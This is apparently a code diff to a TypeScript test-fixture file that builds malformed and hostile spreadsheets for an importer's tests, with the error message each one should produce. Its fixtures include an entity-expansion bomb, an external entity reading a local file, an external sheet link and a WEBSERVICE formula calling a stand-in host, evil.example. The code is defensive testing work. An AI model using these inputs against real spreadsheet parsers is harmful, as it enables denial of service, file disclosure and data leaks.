@@ -1,19 +1,18 @@
 /** Spreadsheets that are broken, protected, or made to harm whoever opens them. */
 import { constants, deflateRawSync } from "node:zlib";
-import { compoundDocument, type Entries, openDocument, zip } from "./sample-files.ts";
+import { ods } from "./sample-documents.ts";
+import { compoundDocument, type Entries, openDocument, relations, SPREADSHEET, zip } from "./sample-files.ts";
 
-const MAIN = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"';
-const REL = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"';
 const WORKBOOK = "xl/workbook.xml";
 const SHEET = "xl/worksheets/sheet1.xml";
 
 /** A workbook whose one sheet has these rows. */
 export const workbook = (rows: string, more: Entries = {}): Buffer =>
   zip({
-    [WORKBOOK]: `<workbook ${MAIN} ${REL}><sheets><sheet name="Rows" sheetId="1" r:id="a"/></sheets></workbook>`,
-    "xl/_rels/workbook.xml.rels":
-      '<Relationships><Relationship Id="a" Target="worksheets/sheet1.xml"/></Relationships>',
-    [SHEET]: `<worksheet ${MAIN}><sheetData>${rows}</sheetData></worksheet>`,
+    "_rels/.rels": relations([["officeDocument", WORKBOOK]]),
+    [WORKBOOK]: `<workbook ${SPREADSHEET}><sheets><sheet name="Rows" sheetId="1" r:id="rId0"/></sheets></workbook>`,
+    "xl/_rels/workbook.xml.rels": relations([["worksheet", "worksheets/sheet1.xml"]]),
+    [SHEET]: `<worksheet ${SPREADSHEET}><sheetData>${rows}</sheetData></worksheet>`,
     ...more,
   });
 
@@ -22,12 +21,12 @@ const text = (value: string) => `<c t="inlineStr"><is><t>${value}</t></is></c>`;
 export const workbookOf = (rows: readonly (readonly string[])[]): Buffer =>
   workbook(rows.map((cells) => `<row>${cells.map(text).join("")}</row>`).join(""));
 
-const NAMESPACES = 'xmlns:office="o" xmlns:table="t" xmlns:text="x" xmlns:xlink="l"';
 const odsOf = (table: string, more: Entries = {}): Buffer =>
-  openDocument("spreadsheet", {
-    "content.xml": `<office:document-content ${NAMESPACES}><office:body><office:spreadsheet><table:table table:name="Rows">${table}</table:table></office:spreadsheet></office:body></office:document-content>`,
-    ...more,
-  });
+  ods(
+    `<office:spreadsheet><table:table table:name="Rows">${table}</table:table></office:spreadsheet>`,
+    "",
+    more,
+  );
 const odsCell = (attributes: string, value = "x") =>
   `<table:table-row><table:table-cell office:value-type="string" ${attributes}><text:p>${value}</text:p></table:table-cell></table:table-row>`;
 
@@ -85,20 +84,22 @@ export const HOSTILE_SPREADSHEETS: readonly HostileSpreadsheet[] = [
   { what: "unpacks to more than its archive says", bytes: () => liar(80), says: TOO_LARGE },
   {
     what: "multiplies entities",
-    bytes: () => workbook("", { [SHEET]: `${LAUGHS}<worksheet ${MAIN}>&c;</worksheet>` }),
+    bytes: () => workbook("", { [SHEET]: `${LAUGHS}<worksheet ${SPREADSHEET}>&c;</worksheet>` }),
     says: UNREADABLE,
   },
   {
     what: "names a file of the machine",
-    bytes: () => workbook("", { [SHEET]: `${OUTSIDE}<worksheet ${MAIN}>&a;</worksheet>` }),
+    bytes: () => workbook("", { [SHEET]: `${OUTSIDE}<worksheet ${SPREADSHEET}>&a;</worksheet>` }),
     says: UNREADABLE,
   },
   {
     what: "has its sheet outside",
     bytes: () =>
       workbook("", {
-        "xl/_rels/workbook.xml.rels":
-          '<Relationships><Relationship Id="a" TargetMode="External" Target="http://evil.example/sheet.xml"/></Relationships>',
+        "xl/_rels/workbook.xml.rels": relations([["worksheet", "http://evil.example/sheet.xml"]]).replace(
+          "Id=",
+          'TargetMode="External" Id=',
+        ),
       }),
     says: UNREADABLE,
   },
@@ -131,6 +132,16 @@ export const HOSTILE_SPREADSHEETS: readonly HostileSpreadsheet[] = [
     what: "has a formula that nobody calculated",
     bytes: () => workbook('<row r="2"><c r="A2"><f>WEBSERVICE("http://evil.example")</f></c></row>'),
     says: "Row 2 has a formula without a value. Open the file in Excel or LibreOffice and save it again.",
+  },
+  {
+    what: "has a number of more digits than it keeps",
+    bytes: () => workbook('<row r="2"><c r="A2"><v>1.8231024567891E+17</v></c></row>'),
+    says: "Row 2 has a number of more than 15 digits, 1.8231024567891E+17. A spreadsheet keeps only the first 15, so the others may be wrong. Format the column as text and enter the number again.",
+  },
+  {
+    what: "has lost its texts",
+    bytes: () => workbook('<row r="2"><c r="A2" t="s"><v>0</v></c></row>'),
+    says: "Row 2 has a text that is missing from the file. Open the file in Excel or LibreOffice, check it and save it again.",
   },
   {
     what: "shows an error",
